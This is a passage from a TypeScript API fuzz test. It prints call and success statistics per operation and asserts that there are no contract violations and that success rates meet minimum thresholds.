    const pct = (a: number, b: number) => `${((100 * a) / Math.max(1, b)).toFixed(1)} %`;
    const never = [...tally.okByOp].filter(([, n]) => n === 0).map(([op]) => op);
    console.log(
      [
        `fuzz: ${tally.calls} calls over ${ops.length} operations in ${seconds.toFixed(1)} s (${(tally.calls / seconds).toFixed(0)}/s), seed ${SEED}`,
        `  journeys: ${SIZES.fuzzJourneys} (${afterJourneys.calls} calls, ${afterJourneys.seconds.toFixed(1)} s)`,
        `  success: ${pct(tally.ok, tally.scoredCalls)} of ${tally.scoredCalls} calls to operations with journeys, ${pct(tally.changingOk, tally.changing)} of ${tally.changing} state-changing calls`,
        `  operations with a success: ${ops.length - never.length}/${ops.length}${never.length ? ` (never: ${never.join(', ')})` : ''}`,
        `  statuses: ${byStatus.join(' ')}`,
        `  successes/calls per operation: ${[...tally.okByOp].map(([op, n]) => `${op} ${n}/${tally.callsByOp.get(op) ?? 0}`).join(', ')}`,
        `  violations: ${tally.failures.length}`,
      ].join('\n'),
    );
    expect(tally.failures, `seed ${SEED}`).toEqual([]);
    expect(stuck).toEqual([]);
    expect(tally.calls).toBeGreaterThanOrEqual(CALLS);
    // Operations the journeys do not build fixtures for yet (institution master data, institution
    // users, SMS-code identity and the tracking page's enterprise session): they are fuzzed for
    // status and contract like every other, but not required to succeed (the run prints those that did).
    expect(
      never.filter((op) => !NO_JOURNEY_YET.has(op)),
      'operations that never succeeded',
    ).toEqual([]);
    const reachedAnyway = [...NO_JOURNEY_YET].filter((op) => (tally.okByOp.get(op) ?? 0) > 0);
    if (reachedAnyway.length) console.log(`  listed without a journey, yet reached a 2xx: ${reachedAnyway.join(', ')}`);
    expect(tally.ok / tally.scoredCalls).toBeGreaterThanOrEqual(0.4);
    expect(tally.changingOk / tally.changing).toBeGreaterThanOrEqual(0.2);
  });
});
